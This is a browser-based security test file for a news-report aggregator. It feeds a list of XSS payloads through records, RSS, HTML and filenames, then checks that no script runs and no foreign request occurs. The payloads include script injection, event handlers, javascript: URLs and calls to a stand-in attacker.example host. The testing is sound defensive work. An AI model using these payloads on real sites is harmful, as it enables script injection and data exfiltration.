/** Whatever a report says, and wherever it says it, stays words: in the page and in the brief that is sent on, in a real browser. */
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { fileURLToPath, pathToFileURL } from 'node:url'
import type { Browser, Page } from 'playwright-core'
import { type Served, serve } from './server.js'

const project = join(dirname(fileURLToPath(import.meta.url)), '..', '..')
const { launch } = (await import(pathToFileURL(join(project, 'scripts/browser.mjs')).href)) as {
  launch: () => Promise<Browser | undefined>
}
const browser = await launch()
const skip = browser ? false : 'there is no Chromium here (apt-get install chromium, or set HEARSAY_CHROMIUM)'

/** Each would set a mark on the page or ask a foreign site, if it were more than words. */
const RUN = 'globalThis.owned=1'
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `"><script src=//attacker.example/x.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=http://attacker.example/pixel.gif>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  `<details open ontoggle=${RUN}>x`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `"onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
  `' style='background:url(http://attacker.example/c)' x='`,
  `<style>@import 'http://attacker.example/s.css';</style>`,
  `<link rel=stylesheet href=http://attacker.example/s.css>`,
  `<base href=http://attacker.example/>`,
  `<meta http-equiv=refresh content="0;url=http://attacker.example/">`,
  `<form action=http://attacker.example/><input name=token autofocus onfocus=${RUN}></form>`,
  `<a href=javascript:${RUN}>here</a>`,
  `javascript:${RUN}//`,
  `data:text/html,<script>${RUN}</script>`,
  `</title></textarea></script></style><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `__html`,
  `[x](javascript:${RUN})`,
  `![x](http://attacker.example/pixel.gif)`,
]

const said = (payload: string): string =>
  `The mayor of ${payload} said that the dam at Halm would close by May, two officials said.\n\n“${payload},” Marta Reinholt told ${payload}. According to ${payload}, 300 soldiers are to leave the Halm dam.`

describe('words stay words', { skip }, () => {
  let folder: string, served: Served, page: Page
  const foreign: string[] = [],
    dialogs: string[] = []

  const watch = async (): Promise<Page> => {
    const fresh = await (browser as Browser).newPage()
    fresh.setDefaultTimeout(15_000)
    fresh.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    fresh.on('request', (request) => {
      const url = new URL(request.url())
      if (!['about:', 'blob:', 'file:', 'data:'].includes(url.protocol) && url.hostname !== '127.0.0.1')
        foreign.push(request.url())
    })
    return fresh
  }
  const isUntouched = async (where: string): Promise<void> => {
    assert.equal(await page.evaluate('globalThis.owned'), undefined, where)
    assert.deepEqual([foreign, dialogs], [[], []], where)
    assert.equal(
      await page.evaluate<number>(
        'document.querySelectorAll(\'#page script, #page iframe, #page img, #page link, #page base, #page meta, #page form[action], main script, main img, main iframe, a[href^="javascript:" i], a[href^="data:" i], [onerror], [onload], [onfocus]\').length',
      ),
      0,
      where,
    )
  }

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), 'hearsay-xss-'))
    const pile = join(folder, 'pile')
    await mkdir(pile)
    const records = PAYLOADS.map((payload) => ({
      id: payload,
      outlet: payload,
      title: payload,
      url: payload,
      author: payload,
      text: said(payload),
    }))
    await writeFile(join(pile, 'records.jsonl'), records.map((record) => JSON.stringify(record)).join('\n'))
    const cdata = (text: string) => `<![CDATA[${text.replaceAll(']]>', ']] >')}]]>`
    await writeFile(
      join(pile, 'feed.xml'),
      `<rss version="2.0"><channel><title>${cdata(PAYLOADS[2] as string)}</title>${PAYLOADS.map((payload) => `<item><title>${cdata(payload)}</title><link>${cdata(`http://a.example/${payload}`)}</link><author>${cdata(payload)}</author><source url="http://a.example/">${cdata(payload)}</source><description>${cdata(said(payload))}</description></item>`).join('')}</channel></rss>`,
    )
    for (const [at, payload] of PAYLOADS.entries()) {
      const linked = JSON.stringify({
        '@type': 'NewsArticle',
        headline: payload,
        author: { name: payload },
        publisher: { name: payload },
        url: payload,
        isBasedOn: payload,
      }).replaceAll('<', '\\u003c')
      await writeFile(
        join(pile, `${at}.html`),
        `<title>${payload}</title><script type="application/ld+json">${linked}</script><article><h1>x</h1><p>${said(payload).replaceAll('<', '&lt;')}</p></article>`,
      )
      await writeFile(join(pile, `${payload.replace(/[/\0]/g, '_').slice(0, 100)}.txt`), said(`number ${at}`))
    }
    const library = join(folder, 'library')
    const { status, stderr } = spawnSync(
      process.execPath,
      [join(project, 'bin/hearsay.mjs'), 'read', pile, '--library', library],
      { encoding: 'utf8' },
    )
    assert.ok(status === 0 || status === 3, stderr)
    served = await serve(library)
    page = await watch()
    await page.goto(served.url)
    await page.waitForSelector('.story')
  })
  after(async () => {
    await page?.close()
    await served?.close()
    await rm(folder, { recursive: true })
  })

  test('in every view of every story', async () => {
    await isUntouched('the list')
    const stories = Math.min(await page.locator('.story').count(), 6)
    assert.ok(stories > 0)
    for (let at = 0; at < stories; at++) {
      await page.keyboard.press('0')
      await page.locator('.story').nth(at).click()
      await page.waitForSelector('.origins')
      for (const key of ['1', '2', '3', '4', '5', '6']) {
        await page.keyboard.press(key)
        await page.waitForTimeout(120)
        await isUntouched(`story ${at}, view ${key}`)
      }
    }
  })

  test('in the original as it is shown, which is never a page', async () => {
    const { body, type } = await page.evaluate<{ body: number; type: string }>(`(async () => {
      const headers = { authorization: 'Bearer ' + ${JSON.stringify(new URL(served.url).searchParams.get('token'))} }
      const { stories } = await (await fetch('/api/stories', { headers })).json()
      const answer = await fetch('/api/reports/' + stories[0].reports[0] + '/original', { headers })
      return { body: (await answer.text()).length, type: answer.headers.get('content-type') }
    })()`)
    assert.ok(body > 0)
    assert.equal(type, 'text/plain; charset=utf-8')
  })

  test('in the brief that is sent on as a file', async () => {
    const brief = join(folder, 'brief.html')
    const { status, stderr } = spawnSync(
      process.execPath,
      [join(project, 'bin/hearsay.mjs'), 'brief', '--html', '-o', brief, '--library', join(folder, 'library')],
      { encoding: 'utf8' },
    )
    assert.equal(status, 0, stderr)
    await page.close()
    page = await watch()
    await page.goto(pathToFileURL(brief).href)
    await page.waitForTimeout(300)
    assert.ok((await page.locator('main').innerText()).includes('attacker.example'), 'the words are there')
    await isUntouched('the brief')
  })
})
after(() => browser?.close())
